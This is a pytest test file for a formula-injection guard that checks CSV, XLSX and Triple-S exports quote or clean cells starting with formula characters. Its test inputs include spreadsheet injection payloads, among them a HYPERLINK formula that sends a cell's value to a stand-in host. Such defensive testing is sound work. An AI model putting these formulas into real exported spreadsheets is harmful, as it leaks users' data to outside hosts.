"""Formula-injection guard for CSV and spreadsheet cells (OWASP "CSV Injection")."""

import pytest

from opencode.files.cell_guard import guard_cell, guard_row


# OWASP "CSV Injection": cells starting with = + - @ tab or carriage return get a leading single quote.
@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tfoo", "\rbar", '=HYPERLINK("x")'])
def test_triggers_get_a_leading_quote(text):
    assert guard_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "a=b", " =x", "", "'already", "1-2"])
def test_safe_text_is_unchanged(text):
    assert guard_cell(text) == text


@pytest.mark.parametrize("value", [-3, -2.5, None, 0, True])
def test_non_text_is_unchanged(value):
    assert guard_cell(value) is value


def test_guard_row():
    assert guard_row(["=a", 1, "b", "@c"]) == ["'=a", 1, "b", "'@c"]


# -- one guard for every writer: cleaned first, then guarded (a "\x01=" label is no formula) ------------------
import csv  # noqa: E402
import xml.etree.ElementTree as ET  # noqa: E402

import openpyxl  # noqa: E402
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from opencode.analysis.tables import output as table_output  # noqa: E402
from opencode.export.dataset import ClosedVariable, CodedDataset, CodedQuestion, FrameCode  # noqa: E402
from opencode.export.tabular import write_csv, write_xlsx  # noqa: E402
from opencode.export.triple_s import write_triple_s  # noqa: E402
from opencode.files.cell_guard import FORMULA_TRIGGERS, clean_text  # noqa: E402

LEADERS = ["=", "+", "-", "@", "\t", "\r", "\x01", "\x00", "\x1b", "\x7f", "\u202e", "\ufeff", " ", "\n", "'"]
#: Random text made of control characters, formula leaders and ordinary characters, in any order.
NASTY = st.lists(st.sampled_from(LEADERS + list("aZ9 (),\"é€") + ['HYPERLINK("http://x.example/?"&A1)', "1+1"]),
                 max_size=12).map("".join)


def _unguarded(value) -> bool:
    """A text cell a spreadsheet could read as a formula (the exact "-" no-base mark excepted)."""
    return isinstance(value, str) and value != "-" and value.startswith(FORMULA_TRIGGERS)


@settings(max_examples=300, deadline=None)
@given(NASTY)
def test_property_guarded_text_never_starts_a_formula(text):
    out = guard_cell(text)
    assert not _unguarded(out)
    assert not any(ch in out for ch in "\x00\x01\x1b\x7f\u202e")
    cleaned = clean_text(text)
    assert out in (cleaned, "'" + cleaned)  # only removals and at most one quote: nothing else changes
    if out != cleaned:
        assert cleaned.startswith(FORMULA_TRIGGERS)


@settings(max_examples=100, deadline=None)
@given(st.one_of(st.integers(-10**12, -1), st.floats(max_value=-1e-9, allow_nan=False, allow_infinity=False)))
def test_property_negative_numbers_stay_numbers(number):
    assert guard_cell(number) == number and type(guard_cell(number)) is type(number)


def _hostile_dataset(texts: list[str]) -> CodedDataset:
    n = len(texts)
    frame = [FrameCode(1, texts[0] or "x", net=9), FrameCode(2, texts[-1] or "y"), FrameCode(9, texts[1 % n] or "n",
                                                                                          is_net=True)]
    question = CodedQuestion("why", texts[0] + " label", frame, [{1} if i % 2 else {2} for i in range(n)], texts)
    closed = ClosedVariable("score", [float(-i - 1) for i in range(n)], "\x01=score", {-1.0: texts[-1] or "z"})
    return CodedDataset(list(range(1, n + 1)), [question], [closed], title=texts[0] or "t")


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(NASTY, min_size=2, max_size=6))
def test_property_no_written_xlsx_cell_is_a_formula(tmp_path_factory, texts):
    folder = tmp_path_factory.mktemp("x")
    [path] = write_xlsx(_hostile_dataset(texts), folder / "h.xlsx", verbatims="raw")
    book = openpyxl.load_workbook(path)  # outside check: openpyxl reads what a spreadsheet would
    assert book.sheetnames == ["data", "frame", "variables"]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not _unguarded(cell.value), (sheet.title, cell.coordinate, cell.value)
    scores = [c.value for c in book["data"][1]].index("score")
    values = [row[scores].value for row in book["data"].iter_rows(min_row=2)]
    assert values == [-(i + 1) for i in range(len(texts))]  # negative numbers are numbers


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(NASTY, min_size=2, max_size=6))
def test_property_no_written_csv_or_triple_s_cell_is_unguarded(tmp_path_factory, texts):
    folder = tmp_path_factory.mktemp("c")
    dataset = _hostile_dataset(texts)
    cells = []
    for path in write_csv(dataset, folder / "h.csv", verbatims="raw"):
        with open(path, newline="", encoding="utf-8") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    for data_format in ("csv", "fixed"):
        meta, data = write_triple_s(dataset, folder / f"t-{data_format}.sss", data_format=data_format,
                                    verbatims="raw")
        root = ET.parse(meta).getroot()  # the metadata parses as XML: no control characters in it
        cells += [element.text or "" for element in root.iter() if element.tag in ("label", "value", "title")]
        if data_format == "csv":
            with open(data, newline="", encoding="utf-8") as handle:
                cells += [cell for row in csv.reader(handle) for cell in row]
    numbers = [c for c in cells if c.lstrip("-").isdigit()]
    assert any(c.startswith("-") for c in numbers)  # the negative scores were written as plain numbers
    assert not [c for c in cells if _unguarded(c) and not c.lstrip("-").isdigit()]


def test_report_tables_written_as_xlsx_and_csv_hold_no_formula(tmp_path, monkeypatch):
    # The banner-table writers (analysis/tables/output.py) use the same guard: labels with a control
    # character in front of a formula leader stay text in every sheet and CSV cell.
    import test_tables_output

    monkeypatch.setattr(test_tables_output, "INJECTIONS", ["\x01=HYPERLINK(\"http://x.example\")", "\x1b+1",
                                                           "\u202e-2+3", "@x", "\x00=1"])
    freq, table = test_tables_output.make_tables()
    path = table_output.write_xlsx([freq, table], tmp_path / "t.xlsx")
    book = openpyxl.load_workbook(path)
    texts = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert texts and all(c.data_type != "f" and not _unguarded(c.value) for c in texts)
    assert "'=HYPERLINK(\"http://x.example\")" in {c.value for c in texts}
    table_output.write_csv(table, tmp_path / "t.csv")
    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if _unguarded(c) and not c.lstrip("-").replace(".", "").isdigit()]
